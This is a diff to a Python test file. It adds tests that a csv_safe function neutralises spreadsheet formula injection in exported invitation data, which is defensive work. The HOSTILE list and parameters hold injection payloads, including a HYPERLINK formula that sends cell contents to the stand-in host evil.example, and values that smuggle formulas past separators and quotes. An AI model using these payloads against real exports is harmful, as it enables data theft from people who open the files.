@@ -3,11 +3,16 @@ happen in each status, and spreadsheet-safe cells. No I/O."""
 
 from __future__ import annotations
 
+import csv
+import io
 import math
 import re
 from datetime import UTC, datetime, timedelta
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from invitations_testkit import formula_cells
 
 from invitations.domain import (
     ALPHABET,
@@ -191,7 +196,7 @@ def test_addresses_compare_without_case_but_keep_their_aliases() -> None:
 
 @pytest.mark.parametrize(
     "value",
-    ['=HYPERLINK("http://evil.example","x")', "+1", "-2", "@x", "\tcmd", "\r=1", "=", "-"],
+    ['=HYPERLINK("http://evil.example","x")', "+1", "-2", "@x", "\tcmd", "\rcmd", "=", "-"],
 )
 def test_a_cell_a_spreadsheet_would_run_is_made_text(value: str) -> None:
     assert csv_safe(value) == "'" + value
@@ -200,3 +205,43 @@ def test_a_cell_a_spreadsheet_would_run_is_made_text(value: str) -> None:
 @pytest.mark.parametrize("value", ["", "Ada", "O'Brien", "a=b", "x+1", "Jean-Luc", "1", "'quoted"])
 def test_ordinary_cells_are_left_alone(value: str) -> None:
     assert csv_safe(value) == value
+
+
+HOSTILE = [
+    "Ada;=1+1;",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1",
+    "-1",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r=1",
+    "Ada,=1+1",
+    "Ada|@SUM(1)",
+    "Ada\t-1",
+    "Ada; =1+1",  # a spreadsheet that trims spaces
+    ";\t=1",  # a separator before a TAB, itself a separator before =
+    'Ada","=1+1',  # a quote, to leave the quoted field early
+    "Ada\n=1+1",  # a reader that ignores quotes starts a new line here
+]
+
+
+def exported_line(*values: str) -> str:
+    out = io.StringIO()
+    csv.writer(out, quoting=csv.QUOTE_ALL).writerow([csv_safe(v) for v in values])
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_no_cell_starts_a_formula_whatever_the_separator(value: str) -> None:
+    assert formula_cells(exported_line("ada@example.org", value, "Lovelace")) == []
+
+
+@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n,;|\"' aZ1"), max_size=12))
+def test_no_text_at_all_can_start_a_formula(value: str) -> None:
+    assert formula_cells(exported_line(value, value)) == []
+
+
+def test_a_neutralised_cell_still_shows_its_text() -> None:
+    assert csv_safe("Ada;=1+1;") == "Ada;'=1+1;"
+    assert csv_safe(";\t=1") == ";'\t'=1"
+    assert csv_safe("\t=1") == "'\t'=1"
